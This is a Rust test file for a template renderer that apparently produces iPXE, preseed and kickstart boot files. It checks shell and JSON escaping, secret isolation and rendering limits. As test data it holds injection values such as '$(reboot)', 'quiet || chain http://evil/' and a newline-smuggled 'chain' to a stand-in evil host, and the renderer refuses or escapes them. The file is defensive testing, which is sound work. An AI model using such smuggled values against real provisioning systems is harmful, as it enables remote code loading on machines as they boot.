//! Templates on their best and their worst behaviour.

use serde_json::json;

use super::*;

mod chains;
mod quoting;

fn scope_with(variables: serde_json::Value) -> Arc<Scope> {
    let variables = serde_json::from_value(variables).expect("a map");
    let context = context(&[&variables], &[("host", json!({"name": "web-1"}))]).expect("plain values");
    let files = BTreeMap::from([("linux".into(), Guard::Attempt), ("preseed.cfg".into(), Guard::Order)]);
    let secret = |text: &str| Arc::new(Zeroizing::new(text.to_owned()));
    let secrets = BTreeMap::from([("pw".into(), secret("it's")), ("key".into(), secret("a\nb"))]);
    let templates = Templates::default();
    Arc::new(Scope { context, templates, files, folder: String::new(), order: true, secrets })
}

const ORDER: Place = Place::File(Guard::Order);

/// The parts as one text: slots and secrets by name.
fn shown(template: &str, scope: &Arc<Scope>, place: Place) -> Result<String, String> {
    let rendered = render(template, scope, place).map_err(|error| error.to_string())?;
    let show = |part: &Part| match part {
        Part::Literal(bytes) => String::from_utf8_lossy(bytes).into_owned(),
        Part::Slot(slot) => format!("<{slot:?}>"),
        Part::Secret(name) => format!("<secret {name}>"),
    };
    Ok(rendered.parts.iter().map(show).collect())
}

#[test]
fn urls_and_callbacks_become_slots() {
    let scope = scope_with(json!({}));
    let text = "k {{ url('linux') }} a {{ url('preseed.cfg') }} r {{ report('installed') }}";
    let expected = "k <BaseUrl>/a/<AttemptId>/linux a <BaseUrl>/o/<OrderToken>/preseed.cfg \
                    r <BaseUrl>/o/<OrderToken>/report/installed";
    assert_eq!(shown(text, &scope, ORDER), Ok(expected.into()));
}

#[test]
fn what_does_not_exist_is_named() {
    let scope = scope_with(json!({}));
    let error = |text| shown(text, &scope, ORDER).expect_err("refused");
    assert!(error("\n{{ url('nix') }}").contains("line 2"), "{}", error("\n{{ url('nix') }}"));
    assert!(error("{{ url('nix') }}").contains("only linux, preseed.cfg"));
    assert!(error("{{ nothing }}").contains("undefined"));
    assert!(error("{{ report('x') }}").contains("expected one of started"));
    assert!(error("{{ secret('nix') }}").contains("no such secret"));
}

#[test]
fn data_never_becomes_template_source() {
    let scope = scope_with(json!({"evil": "{{ secret('pw') }}{% raw %}"}));
    assert_eq!(shown("{{ evil }}", &scope, ORDER), Ok("{{ secret('pw') }}{% raw %}".into()));
}

#[test]
fn hostile_values_stay_values() {
    let scope = scope_with(json!({"name": "$(reboot)", "quote": "a'b\"c\\"}));
    assert_eq!(shown("echo {{ name | shell }}", &scope, ORDER), Ok("echo '$(reboot)'".into()));
    assert_eq!(shown("{{ quote | shell }}", &scope, ORDER), Ok(r#"'a'\''b"c\'"#.into()));
    assert_eq!(shown("{{ quote | json }}", &scope, ORDER), Ok(r#""a'b\"c\\""#.into()));
    assert_eq!(shown("{{ quote | kickstart }}", &scope, ORDER), Ok(r#""a'b\"c\\""#.into()));
    assert!(shown("{{ quote | preseed }}", &scope, ORDER).expect_err("continues").contains("backslash"));
    assert!(
        shown("{{ name }}", &scope, Place::Arguments).expect_err("expands").contains("iPXE would expand")
    );
    assert!(shown("{{ name | ipxe }}", &scope, ORDER).expect_err("expands").contains("iPXE would expand"));
}

#[test]
fn a_line_break_in_a_value_is_refused_before_any_template_sees_it() {
    let variables = serde_json::from_value(json!({"name": ["a\nchain http://evil/"]})).expect("a map");
    let error = context(&[&variables], &[]).expect_err("a control character");
    assert_eq!(error.path, "name[0]");
    let marked = serde_json::from_value(json!({"name": "\u{fdd0}0\u{fdd1}"})).expect("a map");
    assert!(context(&[&marked], &[]).expect_err("a mark").problem.contains("reserved"));
    let built_in = serde_json::from_value(json!({"host": {"name": "other"}})).expect("a map");
    assert!(context(&[&built_in], &[]).expect_err("taken").problem.contains("built-in"));
}

#[test]
fn words_that_ipxe_obeys_are_refused() {
    let scope = scope_with(json!({"args": "quiet || chain http://evil/", "plain": "a||b"}));
    assert!(shown("{{ args }}", &scope, Place::Arguments).is_err());
    assert_eq!(shown("{{ plain }}", &scope, Place::Arguments), Ok("a||b".into()));
}

#[test]
fn secrets_are_parts_and_are_escaped_where_they_are_put() {
    let scope = scope_with(json!({}));
    let rendered = render("a {{ secret('pw') | shell }} b {{ secret('pw') }}", &scope, ORDER).expect("legal");
    let names: Vec<_> = rendered.parts.iter().filter(|part| matches!(part, Part::Secret(_))).collect();
    assert_eq!(names, [&Part::Secret("pw|shell".into()), &Part::Secret("pw".into())]);
    assert_eq!(rendered.secrets["pw|shell"], r"it'\''s");
    assert_eq!(rendered.secrets["pw"], "it's");
    let literal: Vec<u8> = rendered
        .parts
        .iter()
        .filter_map(|part| if let Part::Literal(bytes) = part { Some(bytes.to_vec()) } else { None })
        .flatten()
        .collect();
    assert_eq!(String::from_utf8(literal).expect("text"), "a '' b ");
}

#[test]
fn secrets_stay_out_of_open_files_arguments_and_lists() {
    let scope = scope_with(json!({}));
    assert!(shown("{{ secret('pw') }}", &scope, Place::File(Guard::Attempt)).is_err());
    assert!(shown("{{ secret('pw') }}", &scope, Place::Arguments).is_err());
    assert!(shown("{{ [secret('pw')] | json }}", &scope, ORDER).expect_err("a list").contains("by itself"));
    assert!(shown("{{ secret('key') }}", &scope, ORDER).expect_err("a line break").contains("filter"));
    assert_eq!(shown("{{ secret('key') | json }}", &scope, ORDER), Ok("\"<secret key|json>\"".into()));
}

#[test]
fn a_mark_that_was_cut_is_noticed() {
    let scope = scope_with(json!({}));
    assert!(shown("{{ url('linux')[:2] }}", &scope, ORDER).expect_err("cut").contains("cut"));
    assert!(shown("{{ url('linux') | reverse }}", &scope, ORDER).is_err());
}

#[test]
fn templates_have_limits() {
    let scope = scope_with(json!({}));
    let endless = "{% for a in range(9999) %}{% for b in range(9999) %}{% endfor %}{% endfor %}";
    assert!(shown(endless, &scope, ORDER).expect_err("fuel").contains("steps"));
    assert!(shown("{{ 'x' * 2000000 }}", &scope, ORDER).expect_err("output").contains("bytes"));
}

#[test]
fn trailing_newlines_are_kept() {
    assert_eq!(shown("a\n", &scope_with(json!({})), ORDER), Ok("a\n".into()));
}
